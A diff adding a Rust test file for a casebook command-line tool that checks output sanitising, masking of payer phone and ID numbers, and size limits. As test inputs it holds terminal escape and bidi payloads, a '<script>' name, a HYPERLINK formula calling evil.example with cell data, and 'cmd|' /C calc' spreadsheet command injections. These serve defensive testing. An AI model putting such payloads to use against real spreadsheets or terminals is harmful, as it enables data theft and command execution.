@@ -1,0 +1,378 @@
+//! Issue 11: payer data kept secret, output that cannot be turned against its reader, size
+//! limits. An attacker's payloads in committed files and commit messages print harmlessly;
+//! nothing personal reaches a commit message; spreadsheet formulas are neutralised; huge
+//! files are refused.
+
+use crate::harness::*;
+
+/// Characters that must never reach a terminal from the casebook's data.
+const DANGEROUS: &[char] = &[
+    '\u{1b}',
+    '\u{07}',
+    '\u{202E}',
+    '\u{2066}',
+    '\u{2028}',
+    '\u{2029}',
+    '\u{200B}',
+    '\u{2060}',
+    '\u{00AD}',
+    '\u{3164}',
+    '\u{E0041}',
+    '\u{FEFF}',
+];
+
+fn assert_harmless(what: &str, text: &str) {
+    // a CSV document opens with a byte-order mark for Excel
+    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
+    for c in DANGEROUS {
+        assert!(
+            !text.contains(*c),
+            "{what} printed U+{:04X}: {text:?}",
+            *c as u32
+        );
+    }
+}
+
+fn all_output(out: &std::process::Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+/// ESC sequences, bidi controls, line separators and tag characters in a committed case
+/// file and in a commit message are printed by no command.
+#[test]
+fn terminal_payloads_in_files_and_commits_print_harmlessly() {
+    let env = Env::new();
+    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
+    let payload = "\u{1b}]0;PWNED\u{07}\u{1b}[2J申请\u{202E}txt.exe\u{2028}次行\u{2066}\u{200B}\u{E0041}\u{3164}\u{00AD}";
+    env.edit_case(&id, |t| {
+        t.insert("summary".into(), toml::Value::String(payload.into()));
+        t.insert("district".into(), toml::Value::String(payload.into()));
+    });
+    env.git_commit_all(&format!("hand edit {payload}"));
+    for args in [
+        vec!["list"],
+        vec!["list", "--json"],
+        vec!["show", id.as_str()],
+        vec!["show", id.as_str(), "--json"],
+        vec!["log", id.as_str()],
+        vec!["log", id.as_str(), "--json"],
+        vec!["verify"],
+        vec!["export", "--format", "csv"],
+        vec!["export", "--format", "json"],
+    ] {
+        let out = env.run(&args);
+        let text = all_output(&out);
+        assert_harmless(&format!("{args:?}"), &text);
+        assert!(!text.contains("\u{1b}]0;"), "{args:?}: {text:?}");
+    }
+    // the visible part of the text is still there
+    let sheet = env.ok(&["show", &id]);
+    assert!(sheet.contains("PWNED") && sheet.contains("次行"), "{sheet}");
+}
+
+/// Invisible and format characters are refused in input, naming the field; names refuse
+/// `<` and `>` (an operator named `<script>` broke every later commit of theirs).
+#[test]
+fn hidden_characters_and_markup_are_refused_in_input() {
+    let env = Env::new();
+    for (flag, value, field) in [
+        ("--payer-name", "芮城县\u{2028}恒达公司", "缴费人名称"),
+        ("--payer-name", "芮城县\u{2060}恒达公司", "缴费人名称"),
+        ("--payer-name", "芮城县\u{00AD}恒达公司", "缴费人名称"),
+        ("--payer-name", "芮城县\u{3164}恒达公司", "缴费人名称"),
+        ("--payer-name", "芮城县\u{E0041}恒达公司", "缴费人名称"),
+        ("--summary", "有异议\u{1b}[2J", "反映事项"),
+        ("--contact", "王\u{202E}小明", "联系人"),
+        (
+            "--payer-name",
+            "<script>alert(1)</script>公司",
+            "缴费人名称",
+        ),
+    ] {
+        let mut args = vec!["--as".to_string(), "zhangsan".to_string()];
+        args.extend(register_args(&[(flag, value)]));
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let err = env.fails(4, &args);
+        assert!(err.contains(field), "{flag} {value:?}: {err}");
+        assert_harmless(flag, &err);
+    }
+    let err = env.as_fails(
+        "admin",
+        4,
+        &[
+            "operator",
+            "add",
+            "mallory",
+            "--name",
+            "<script>x</script>",
+            "--email",
+            "mallory@rc.example.cn",
+            "--dept",
+            "tax",
+            "--role",
+            "receiver",
+        ],
+    );
+    assert!(err.contains("<") || err.contains("姓名"), "{err}");
+}
+
+/// Ticket numbers, import file names and titles go into commit messages: a phone or ID
+/// number in them is refused however it is written; an individual payer appears in the
+/// subject only by the mask of the name.
+#[test]
+fn nothing_personal_reaches_a_commit_message() {
+    let env = Env::new();
+    for title in [
+        "电话137_0000_1111",
+        "电话\u{4E00}\u{4E09}\u{4E03}\u{96F6}\u{96F6}\u{96F6}\u{96F6}\u{4E00}\u{4E00}\u{4E00}\u{4E00}",
+        "身份证110105-19491231-002X",
+        "电话１３７００００１１１１",
+    ] {
+        let mut args = vec!["--as".to_string(), "zhangsan".to_string()];
+        args.extend(register_args(&[("--title", title)]));
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let err = env.fails(4, &args);
+        assert!(err.contains("标题"), "{title}: {err}");
+    }
+
+    let id = env.register_with(
+        "zhangsan",
+        &[
+            ("--payer-kind", "individual"),
+            ("--payer-name", "孙秀英"),
+            ("--payer-id", "11010519491231002X"),
+            ("--phone", "13700001111"),
+            ("--contact", "赵小红"),
+            ("--at", "2026-11-02T09:00:00+08:00"),
+        ],
+    );
+    let subjects = env.git(&["log", "--format=%B"]);
+    assert!(!subjects.contains("孙秀英"), "{subjects}");
+    assert!(subjects.contains("孙**"), "{subjects}");
+
+    // a referral dispatched with a ticket number holding the payer's details
+    env.act(
+        "zhangsan",
+        &[
+            "escalate",
+            &id,
+            "--to",
+            "hotline",
+            "--reason",
+            "职责不清，请转交承办部门",
+            "--at",
+            "2026-11-03T09:00:00+08:00",
+        ],
+    );
+    let err = env.as_fails(
+        "zhoujiu",
+        4,
+        &[
+            "assign",
+            &id,
+            "--dept",
+            "hrss",
+            "--hotline-ticket",
+            "孙秀英-11010519491231002X-13700001111",
+            "--at",
+            "2026-11-04T09:00:00+08:00",
+        ],
+    );
+    assert!(!err.contains("13700001111"), "{err}");
+    env.act(
+        "zhoujiu",
+        &[
+            "assign",
+            &id,
+            "--dept",
+            "hrss",
+            "--hotline-ticket",
+            "12345-20261104-0032",
+            "--at",
+            "2026-11-04T09:00:00+08:00",
+        ],
+    );
+
+    // an import file whose name holds a phone number
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("台账-137 0000 1111.csv");
+    std::fs::write(&path, env.ok(&["import", "--template"])).unwrap();
+    let err = env.as_fails("zhangsan", 4, &["import", path.to_str().unwrap()]);
+    assert!(err.contains("文件名"), "{err}");
+
+    let log = env.git(&["log", "--format=%B"]);
+    for secret in ["13700001111", "11010519491231002X", "孙秀英", "赵小红"] {
+        assert!(!log.contains(secret), "{secret} in history: {log}");
+    }
+}
+
+/// A phone or ID number typed into free text is masked wherever it is shown, unless
+/// revealed by someone who may see it.
+#[test]
+fn numbers_in_free_text_are_masked_unless_revealed() {
+    let env = Env::new();
+    let id = env.register_with(
+        "zhangsan",
+        &[
+            (
+                "--summary",
+                "缴费人称请回电 137 0000 1111，身份证 11010519491231002X",
+            ),
+            ("--at", "2026-11-02T09:00:00+08:00"),
+        ],
+    );
+    for args in [
+        vec!["show", id.as_str()],
+        vec!["show", id.as_str(), "--json"],
+    ] {
+        let out = env.ok(&args);
+        assert!(!out.contains("0000 1111"), "{args:?}: {out}");
+        assert!(!out.contains("11010519491231002X"), "{args:?}: {out}");
+        assert!(
+            out.contains("137 **** 1111") || out.contains("137 ****"),
+            "{out}"
+        );
+    }
+    let revealed = env.as_ok("zhangsan", &["show", &id, "--reveal"]);
+    assert!(revealed.contains("137 0000 1111"), "{revealed}");
+}
+
+/// Formula cells of the CSV export are prefixed with `'` and a CSV reader gets them back as
+/// text.
+#[test]
+fn csv_export_neutralises_formulas() {
+    let env = Env::new();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
+    let cmd = "+cmd|' /C calc'!A0";
+    let id = env.register_with(
+        "zhangsan",
+        &[
+            ("--payer-name", formula),
+            ("--district", cmd),
+            ("--at", "2026-11-02T09:00:00+08:00"),
+        ],
+    );
+    env.act(
+        "zhangsan",
+        &[
+            "classify",
+            &id,
+            "--track",
+            "own",
+            "--category",
+            "3",
+            "--at",
+            "2026-11-02T10:00:00+08:00",
+        ],
+    );
+    env.act(
+        "zhangsan",
+        &[
+            "reply",
+            &id,
+            "--text",
+            "@SUM(1+1)*cmd|' /C calc'!A0\n其余说明",
+            "--at",
+            "2026-11-02T11:00:00+08:00",
+        ],
+    );
+    let csv_text = env.ok(&["export", "--format", "csv"]);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 1);
+    let cells: Vec<&str> = rows[0].iter().collect();
+    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
+    assert!(cells.contains(&format!("'{cmd}").as_str()), "{cells:?}");
+    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{cells:?}");
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "live formula {c:?}"
+        );
+    }
+}
+
+/// A case file over 256 KiB is refused by every reader, and `show` says so in a line
+/// rather than echoing it.
+#[test]
+fn an_oversized_case_file_is_refused() {
+    let env = Env::new();
+    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
+    let huge = "很长".repeat(50_000);
+    env.edit_case(&id, |t| {
+        t.insert("summary".into(), toml::Value::String(huge.clone()));
+    });
+    env.git_commit_all("a huge summary");
+    let err = env.fails(4, &["show", &id]);
+    assert!(err.contains("KiB"), "{err}");
+    assert!(err.len() < 2_000, "{} bytes of error", err.len());
+    let (_, err) = env.fails_with_output(4, &["list"]);
+    assert!(err.contains("KiB") && err.len() < 2_000, "{err}");
+    let (out, err) = env.fails_with_output(4, &["export", "--format", "json"]);
+    assert!(!out.contains("很长很长很长"), "exported the huge file");
+    assert!(err.len() < 2_000);
+}
+
+/// A broken case file's problem is named in a few lines, without the file's content: no
+/// phone number from the file reaches the screen.
+#[test]
+fn a_broken_file_is_named_not_echoed() {
+    let env = Env::new();
+    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
+    let path = env.path(&case_path(&id));
+    let text = std::fs::read_to_string(&path).unwrap();
+    let broken = format!(
+        "{text}\nextra = \"联系电话 13911112222\"\n{}\n",
+        "x = [[[ 13911112222".repeat(20)
+    );
+    std::fs::write(&path, broken).unwrap();
+    env.git_commit_all("broken");
+    let err = env.fails(4, &["show", &id]);
+    assert!(!err.contains("13911112222"), "{err}");
+    assert!(err.lines().count() <= 6, "{err}");
+
+    // a schema error names the rule, not the value
+    let env = Env::new();
+    let id = env.register("zhangsan", "2026-11-02T09:00:00+08:00");
+    env.edit_case(&id, |t| {
+        t.insert("district".into(), toml::Value::String(String::new()));
+        t.insert(
+            "receiving_dept".into(),
+            toml::Value::String("TAX 13911112222".into()),
+        );
+    });
+    env.git_commit_all("schema");
+    let err = env.fails(4, &["show", &id]);
+    assert!(!err.contains("13911112222"), "{err}");
+}
+
+/// `casebook.toml` over 1 MiB, or with more than 2,000 operators, is refused before it is
+/// parsed.
+#[test]
+fn an_oversized_casebook_is_refused() {
+    let env = Env::new();
+    let mut text = env.read("casebook.toml");
+    text.push_str(&format!("# {}\n", "x".repeat(1024 * 1024)));
+    std::fs::write(env.path("casebook.toml"), &text).unwrap();
+    env.git_commit_all("bloat");
+    let err = env.fails(4, &["list"]);
+    assert!(err.contains("KiB"), "{err}");
+
+    let env = Env::new();
+    let mut text = env.read("casebook.toml");
+    for i in 0..2001 {
+        text.push_str(&format!(
+            "\n[[operators]]\nid = \"op{i}\"\nname = \"x\"\nemail = \"op{i}@x.cn\"\ndept = \"tax\"\nroles = [\"receiver\"]\n"
+        ));
+    }
+    std::fs::write(env.path("casebook.toml"), &text).unwrap();
+    env.git_commit_all("crowd");
+    let err = env.fails(4, &["list"]);
+    assert!(err.contains("2000"), "{err}");
+}
